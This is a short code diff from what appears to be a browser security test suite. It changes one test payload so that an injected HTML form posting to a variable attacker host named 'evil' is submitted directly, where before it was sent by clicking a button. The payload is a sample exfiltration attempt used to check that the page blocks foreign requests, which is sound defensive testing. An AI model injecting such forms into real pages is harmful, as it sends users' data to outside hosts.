@@ -54,8 +54,9 @@ const payloads: Record<string, Payload> = {
     isForeign: true,
   },
   "a form": {
-    html: `<form action="${evil}/"><input name=a value=b><button id="send">x</button></form>`,
-    act: (page) => page.locator("#send").evaluate((button: HTMLElement) => button.click()),
+    html: `<form id="send" action="${evil}/"><input name=a value=b></form>`,
+    // Not by a button, whose taps the page keeps until it answers.
+    act: (page) => page.locator("#send").evaluate((form: HTMLFormElement) => form.submit()),
     isForeign: true,
   },
 };
